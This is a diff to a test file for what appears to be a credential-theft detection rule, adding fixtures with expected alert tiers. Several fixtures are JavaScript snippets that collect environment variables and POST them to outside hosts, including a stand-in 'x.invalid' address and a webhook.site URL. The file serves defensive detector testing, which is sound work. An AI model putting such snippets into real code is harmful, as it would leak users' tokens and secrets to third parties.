@@ -59,6 +59,25 @@ testFileRule(credentialTheft, [
     tier: null,
   },
   {
+    name: 'options are put together of some variables',
+    text: `const net = require('net'); const keys = new Set(['proxy']);
+      const options = Object.entries(process.env).reduce((found, [key, value]) => {
+        if (keys.has(key)) found[key] = value;
+        return found;
+      }, {});
+      new net.Socket({ fd: 1 });`,
+    tier: null,
+  },
+  {
+    name: 'all variables are put together and sent',
+    text: `const all = Object.entries(process.env).reduce((found, [key, value]) => {
+        if (key.includes('_')) found[key] = value;
+        return found;
+      }, {});
+      fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(all) });`,
+    tier: 'review',
+  },
+  {
     name: 'variables are picked and dropped',
     text: `const found = Object.entries(process.env).filter(([key]) => /token/i.test(key));
       fetch('https://webhook.site/5f0c', { method: 'POST', body: JSON.stringify(found) });`,
